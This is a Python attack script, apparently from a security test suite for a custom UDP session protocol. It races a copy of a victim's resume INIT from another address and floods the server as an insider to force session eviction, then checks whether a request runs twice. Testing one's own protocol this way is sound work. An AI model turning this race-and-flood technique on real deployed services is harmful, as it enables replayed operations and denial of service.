"""ATTACK: spend a tombstone with a raced copy of the victim's own resume INIT. A (X ran, reply and
resends dropped on the path) is forgotten early (insider flood) -> tombstone TA. The victim resumes
naming A (INIT I); an on-path attacker sends a copy of I from another address first: the session
B_S made from it follows TA's line but is bound to the attacker's address (no keys: unusable), and the
victim's own copies get nothing ("Address"), so its handshake fails (12.6 s). The victim's current
session is still A (younger than 175 s): it makes a new INIT I2 naming A. Is TA still there, or did
the raced copy use it up (then I2 starts a new line and X's resend runs again)?
MODE forget: also make B_S forgotten (flood) before I2.  MODE twice: race I2 too, then I3.

Usage: ATTACK_DIR=DIR python attack_tomb_race.py PORT [plain|forget|twice]   (fresh count_server.py;
~40 s). Who: on-path, no key (copies an INIT, sends it from another address) + same-key insider (load
that makes the server forget the silent A). Victim: page-following raw client."""
import sys, os, time, socket
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "issue52_s65"))
from common import *

PORT = int(sys.argv[1]); MODE = sys.argv[2] if len(sys.argv) > 2 else "plain"
v = Client(PORT); A = v.handshake(); t0 = time.monotonic(); el = lambda: time.monotonic() - t0
X = os.urandom(32); rid = int.from_bytes(os.urandom(5), "big")
v.send(v.req_dgrams(1, rid, X, sess=A)[0]); print("X under A:", ans(v, A, 0.3), "(reply dropped)")
atk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); atk.bind(("127.0.0.1", 0))


def forget(ins, label):
    before = stats(PORT)["tombstones"]; ins.touch_all(); t = time.monotonic()
    while time.monotonic() - t < 2.3: time.sleep(0.05)
    for k in range(8):
        ins.flood(150, keep=False); st = stats(PORT)
        if st["tombstones"] > before: break
    print(f"+{el():.1f}s {label} forgotten?", st, flush=True)


ins = Insider(PORT); ins.flood(2200); forget(ins, "A")


def raced_resume(prev):
    hid = int.from_bytes(os.urandom(6), "big") or 1; e = os.urandom(32)
    I = make_init(v.psk, v.key_id, hid, e, int(time.time() * 1000), prev=prev.sid, prev_kc2s=prev.kc)
    atk.sendto(I, ("127.0.0.1", PORT)); time.sleep(0.01)            # the racer's copy, first
    atk.settimeout(0.3)
    try:
        d = atk.recv(2000); print(f"+{el():.1f}s racer's copy of the resume INIT -> type {parse_hdr(d)['typ']} ({len(d)} B) to the racer")
    except socket.timeout:
        print("racer's copy -> nothing")
    got = []
    for w in (0, 0.2, 0.4, 0.8, 1.6, 3.2):                          # the victim's own copies (same bytes)
        time.sleep(w); v.send(I); got += [parse_hdr(x)["typ"] for x in v.recv_all(0.05)]
    print(f"+{el():.1f}s victim's 6 copies of I got: {got}; its handshake fails", stats(PORT))


raced_resume(A)
if MODE == "forget":
    ins.mine = []; ins.flood(2200); forget(ins, "B_S")
if MODE == "twice":
    raced_resume(A)
B2 = v.handshake(prev=A)
v.send(v.req_dgrams(1, rid, X, sess=B2)[0]); print(f"+{el():.1f}s victim's next INIT names A -> B2; X resent under B2 ->", ans(v, B2, 0.4))
print("after:", stats(PORT))
n = runs(X); print("X ran", len(n), "times", "<-- RAN TWICE" if len(n) > 1 else "")
